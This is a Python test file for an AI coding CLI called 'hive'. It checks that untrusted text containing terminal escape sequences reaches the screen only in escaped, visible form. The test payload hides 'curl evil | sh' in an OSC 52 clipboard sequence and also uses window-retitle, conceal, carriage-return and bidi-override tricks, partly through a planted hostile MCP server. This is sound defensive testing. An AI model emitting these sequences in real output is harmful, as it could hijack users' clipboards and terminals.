"""Untrusted text at a real terminal, as an attacker would plant it: shown as escapes, never obeyed.

The same hostile text — OSC 52 (set the clipboard to ``curl evil | sh``), OSC 2 (retitle the window), a CSI
that hides what follows, a bare carriage return and a bidi override — goes into the model's streamed answer,
its reasoning, a file name a tool lists, an MCP server's tool description and error, a session title, a
resumed transcript and a research report. The real ``hive`` runs in a pseudo-terminal; the test reads the
bytes the terminal received: the injected sequences never arrive, their visible forms do, and markdown still
renders (a heading and a code block in the same answer come out styled).
"""

from __future__ import annotations

import io
import json
import re
import sys
from pathlib import Path

import pexpect

from tests.support.cli import run_hive
from tests.support.llm_server import LLMServer, call, text, tool_calls
from tests.support.mcp_servers import approve_project_servers
from tests.support.research_model import FIXTURE_DOCS, ResearchScript, research_args
from tests.support.terminal import PROMPT, exit_status, leave_repl, model_args, send_line, spawn_hive
from tests.support.trust import trust

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
WINDOW_TITLE = "\x1b]2;PWNED\x07"
CONCEAL = "\x1b[8m"
HOSTILE = f"{CLIPBOARD}{WINDOW_TITLE}{CONCEAL}cover\rover\u202etxt.exe"
"""Every kind at once: no spaces, so a wrapped line folds without losing a character."""
OBEYED = ("\x1b]52", "\x1b]2;", CONCEAL, "cover\rover", "\u202e")
"""What must never reach the terminal (Rich and prompt-toolkit send no OSC 52 or 2, no conceal, no bidi)."""
SHOWN = "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x1b]2;PWNED\\x07\\x1b[8mcover␍over\\u202etxt.exe"
TERMINAL_CODES = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]|\x1b\]8;[^\x1b]*\x1b\\|[\r\n]")
"""The terminal's own codes: colours, cursor moves, Rich's hyperlinks, line breaks."""


def on_screen(raw: str) -> str:
    """What the terminal showed as text, without its own codes, line breaks and spaces (so wrapped lines,
    padded to the terminal's width, rejoin)."""
    return TERMINAL_CODES.sub("", raw).replace(" ", "")


def assert_inert(raw: str, shown: str | None = SHOWN) -> None:
    """None of the hostile sequences reached the terminal; ``shown`` (its visible form) did, when given."""
    for sequence in OBEYED:
        assert sequence not in raw, f"{sequence!r} reached the terminal"
    if shown is not None:
        assert shown.replace(" ", "") in on_screen(raw)


def recording(child: pexpect.spawn) -> io.StringIO:
    """Everything the terminal receives from now on."""
    child.logfile_read = transcript = io.StringIO()
    return transcript


def repl(server: LLMServer, workdir: Path, *extra: str) -> tuple[pexpect.spawn, io.StringIO]:
    """The REPL once its prompt is up, recorded from its first byte (a resumed transcript comes before)."""
    child = spawn_hive(*model_args(server, workdir), *extra)
    transcript = recording(child)
    child.expect(PROMPT)
    return child, transcript


def test_the_models_answer_and_reasoning_are_shown_and_markdown_still_renders(
    llm_server: LLMServer, tmp_path: Path
) -> None:
    answer = f"## Heading One\n\nThe fix is {HOSTILE} done.\n\n```python\nprint('code line')\n```\n"
    thought = "I will set the clipboard \x1b]52;c;cmVhc29uaW5n\x07 quietly."
    llm_server.script(text(answer, reasoning=thought, chunk_size=3))  # sequences split across deltas
    child, raw = repl(llm_server, tmp_path)
    send_line(child, "fix it")
    child.expect("in / ")  # the run's summary line
    child.expect(PROMPT)
    assert leave_repl(child) == 0
    printed = raw.getvalue()

    assert_inert(printed)
    assert "\x1b]52;c;cmVhc29u" not in printed  # the reasoning is not printed at all, and never raw
    screen = on_screen(printed)
    assert "HeadingOne" in screen and "##Heading" not in screen
    assert re.search(r"\x1b\[[0-9;]*mHeading One", printed)  # the heading is styled
    assert "```" not in screen and "print" in screen
    assert re.search(r"\x1b\[[0-9;]*48;[0-9;]+m", printed)  # the code block has its background colour


def test_a_file_name_a_tool_lists_is_shown_in_the_timeline_the_answer_and_hive_runs_log(
    llm_server: LLMServer, tmp_path: Path
) -> None:
    name = f"notes{HOSTILE}"
    (tmp_path / name).write_text("planted\n")
    script = (
        tool_calls(call("list_directory", {"path": "."}, id="l")),
        tool_calls(call("read_file", {"path": name}, id="r")),
        text(f"The folder holds {name} only.\n"),
    )
    llm_server.script(*script)
    child, raw = repl(llm_server, tmp_path)
    send_line(child, "what is here?")
    child.expect("in / ")
    child.expect(PROMPT)
    assert leave_repl(child) == 0
    printed = raw.getvalue()
    assert_inert(printed)
    assert_inert(printed, f"read_file notes{SHOWN[:50]}")  # the timeline row (a long argument is cut)
    assert_inert(printed, f"notes{SHOWN[:60]}")  # what list_directory returned, in its preview
    assert_inert(printed, f"holds notes{SHOWN} only")  # the answer

    llm_server.script(*script)
    ran = run_hive("run", "what is here?", *model_args(llm_server, tmp_path))
    assert ran.returncode == 0, ran.stderr
    assert_inert(ran.stdout + ran.stderr)
    assert f"→ read_file notes{SHOWN[:50]}" in ran.stderr and f"holds notes{SHOWN} only" in ran.stdout


HOSTILE_SERVER = """
from mcp.server.mcpserver import MCPServer
from mcp.server.mcpserver.exceptions import ToolError

server = MCPServer("hostile", version="1.0")


@server.tool(description="Looks things up " + {hostile!r})
def lookup(text: str) -> str:
    raise ToolError("lookup failed " + {hostile!r})  # its message reaches the client


server.run()
"""


def hostile_mcp_project(tmp_path: Path) -> Path:
    server = tmp_path / "server" / "hostile.py"
    server.parent.mkdir()
    server.write_text(HOSTILE_SERVER.format(hostile=HOSTILE))
    project = tmp_path / "project"
    (project / ".ironhive").mkdir(parents=True)
    (project / ".ironhive" / "plugins.yaml").write_text(
        f"plugins:\n  hostile:\n    command: {sys.executable}\n    args: [{server}]\n"
    )
    approve_project_servers(project)
    trust(project)
    return project


def test_an_mcp_servers_tool_description_and_error_are_shown_by_hive_mcp_and_in_the_repl(
    llm_server: LLMServer, tmp_path: Path
) -> None:
    project = hostile_mcp_project(tmp_path)

    tools = spawn_hive("mcp", "tools", "hostile", "-C", str(project))
    raw = recording(tools)
    assert exit_status(tools) == 0
    first_line = SHOWN.split("␍")[0]  # a description is shown up to its first line break, here the carriage return
    assert_inert(raw.getvalue(), f"Looks things up {first_line}")

    called = spawn_hive("mcp", "call", "hostile", "lookup", "--args", '{"text": "x"}', "-C", str(project))
    raw = recording(called)
    assert exit_status(called) == 1
    assert_inert(raw.getvalue(), f"lookup failed {SHOWN}")

    child, raw = repl(llm_server, project)
    send_line(child, "/mcp hostile")
    child.expect("connect")  # "Starting the MCP servers (they connect in the background)…"
    child.expect("MCP server hostile connected")
    send_line(child, "/mcp hostile")
    child.expect("lookup  Looks things up")
    child.expect(PROMPT)
    assert leave_repl(child) == 0
    assert_inert(raw.getvalue(), f"lookup  Looks things up {first_line}")


def test_a_session_title_in_hive_sessions_and_a_resumed_transcript_are_shown(
    llm_server: LLMServer, tmp_path: Path
) -> None:
    missing = f"gone{HOSTILE}"
    llm_server.script(
        tool_calls(call("read_file", {"path": missing}, id="r")),
        text(f"# Result\n\nSaid {HOSTILE} here.\n"),
    )
    ran = run_hive("run", f"t{HOSTILE}", *model_args(llm_server, tmp_path))
    assert ran.returncode == 0, ran.stderr

    listing = spawn_hive("sessions", "list", "-C", str(tmp_path))
    raw = recording(listing)
    assert exit_status(listing) == 0
    assert_inert(raw.getvalue(), None)  # the title is cut at 60 characters: its start is shown
    assert f"t{SHOWN[:40]}" in on_screen(raw.getvalue())

    child, raw = repl(llm_server, tmp_path, "--continue")
    send_line(child, "/help")  # something after the transcript, to know it has all been drawn
    child.expect("Ctrl-D exits")
    child.expect(PROMPT)
    assert leave_repl(child) == 0
    printed = raw.getvalue()
    assert_inert(printed)
    assert_inert(printed, f"› t{SHOWN}")  # the person's message
    assert_inert(printed, f"Said {SHOWN} here.")  # the answer, rendered
    assert "#Result" not in on_screen(printed)
    assert_inert(printed, f"read_file gone{SHOWN[:60]}")  # the call (its argument is cut to fit)


def test_a_research_report_is_shown_in_the_repl_and_by_hive_research(llm_server: LLMServer, tmp_path: Path) -> None:
    report = f"The Tessel Glacier retreated 1.8 kilometres [1]. Planted: {HOSTILE}"
    ResearchScript(judges=['{"score": 0.9, "gaps": []}'], report=report).install(llm_server)
    child, raw = repl(llm_server, tmp_path)
    send_line(child, f"/research --docs {FIXTURE_DOCS} --depth quick How fast is the Tessel Glacier retreating?")
    child.expect("research sufficient")
    child.expect(PROMPT)
    assert leave_repl(child) == 0
    assert_inert(raw.getvalue(), f"Planted: {SHOWN}")

    ResearchScript(judges=['{"score": 0.9, "gaps": []}'], report=report).install(llm_server)
    research = spawn_hive(
        "research", "How fast is the Tessel Glacier retreating?", *research_args(llm_server, tmp_path)
    )
    raw = recording(research)
    assert exit_status(research) == 0
    assert_inert(raw.getvalue(), f"Planted: {SHOWN}")


def test_stream_json_keeps_escaping_the_models_control_characters(llm_server: LLMServer, tmp_path: Path) -> None:
    answer = f"Done {HOSTILE}\n"
    llm_server.script(text(answer, chunk_size=4))
    ran = run_hive("run", "go", "-o", "stream-json", *model_args(llm_server, tmp_path))
    assert ran.returncode == 0, ran.stderr
    assert_inert(ran.stdout, None)
    assert "\\u001b]52;c;" in ran.stdout and "\\u202e" in ran.stdout  # JSON's escapes
    records = [json.loads(line) for line in ran.stdout.splitlines()]
    assert "".join(r["text"] for r in records if r["type"] == "text_delta") == answer  # the exact text, in JSON
